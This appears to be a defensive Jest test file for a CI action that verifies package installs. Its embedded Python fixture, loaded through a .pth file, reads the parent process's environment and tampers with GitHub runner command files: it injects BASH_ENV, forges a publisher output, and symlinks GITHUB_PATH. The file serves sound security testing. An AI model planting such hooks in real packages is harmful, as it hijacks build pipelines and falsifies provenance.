/**
 * Code from the index runs as the job's user: a .pth file in a wheel runs in
 * every interpreter start of the environment, and can find the runner's
 * command files through /proc/<parent>/environ, although the action hands its
 * children none of their paths. What it writes there (a BASH_ENV line that
 * every later bash step would source, a forged output, summary text) is undone
 * and fails the step.
 */
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { cleanupRunsAfterAll, runAction } from '../../support/runner.js';
import { describeIf, pythonPath } from '../../support/tools.js';
import { cleanupAll, publishWheel, startIndex, type TestIndex } from './support.js';

cleanupRunsAfterAll();
afterAll(cleanupAll);

const PY = '3.12';
const python = pythonPath(PY);

/** Runs at interpreter start: finds the parent's command files and writes to each. */
const PLANT = `
import os
try:
    raw = open('/proc/%d/environ' % os.getppid(), 'rb').read().split(b'\\0')
    env = dict(e.decode('utf-8', 'replace').split('=', 1) for e in raw if b'=' in e)
    with open(env['GITHUB_ENV'], 'a') as f: f.write('BASH_ENV=/tmp/evil.sh\\n')
    with open(env['GITHUB_OUTPUT'], 'a') as f: f.write('publisher=ray-project/ray/.github/workflows/release.yml@refs/heads/main\\n')
    with open(env['GITHUB_STEP_SUMMARY'], 'a') as f: f.write('## all good\\n')
    os.remove(env['GITHUB_PATH']); os.symlink('/etc/hostname', env['GITHUB_PATH'])
except Exception:
    pass
`;

let index: TestIndex;
beforeAll(async () => {
  if (!python) return;
  index = await startIndex();
});

describeIf(python && process.platform === 'linux', `Python ${PY} under /root/.pyenv/versions, and Linux's /proc, are needed`)('verify-install and a package that writes to the runner\'s command files', () => {
  it('undoes what it wrote and fails the step, naming the files', async () => {
    await publishWheel(index, {
      name: 'planting-demo', version: '1.0', tags: 'py3-none-any',
      extraMembers: [{ path: 'zz_planting_demo.pth', data: 'import zz_planting_hook\n' }, { path: 'zz_planting_hook.py', data: PLANT }],
    });
    const hostname = readFileSync('/etc/hostname', 'utf8');
    const run = await runAction('verify-install', { package: 'planting-demo', version: '1.0', 'index-url': index.simpleUrl, python: PY, 'wait-timeout': '30' });
    expect(run.code).toBe(1);
    expect(run.errors).toHaveLength(1);
    expect(run.errors[0]).toContain('wrote to GITHUB_OUTPUT, GITHUB_ENV, GITHUB_PATH, GITHUB_STEP_SUMMARY');
    expect(run.errors[0]).toContain('That was undone, and the step fails');
    expect(run.env).toEqual({});
    expect(run.path).toEqual([]);
    expect(run.outputs.publisher).toBeUndefined();
    expect(run.summary).not.toContain('## all good');
    expect(run.summary).toContain('failed');
    expect(readFileSync('/etc/hostname', 'utf8')).toBe(hostname);
    expect(JSON.parse(readFileSync(run.outputs['result-file']!, 'utf8'))).toMatchObject({ result: 'failed' });
  });

  it('warns when its job has id-token: write, which the package code could use through this process', async () => {
    await publishWheel(index, { name: 'plain-verify-demo', version: '1.0', tags: 'py3-none-any' });
    const run = await runAction('verify-install', { package: 'plain-verify-demo', version: '1.0', 'index-url': index.simpleUrl, python: PY, 'wait-timeout': '30' },
      { env: { ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'request-token-of-this-job', ACTIONS_ID_TOKEN_REQUEST_URL: 'https://token.example/idtoken?api-version=2.0' } });
    expect(run.code).toBe(0);
    expect(run.warnings).toEqual([expect.stringContaining('This job has `id-token: write`.')]);
    expect(run.warnings[0]).toContain('Give verify jobs `permissions: contents: read` only');
  });
});
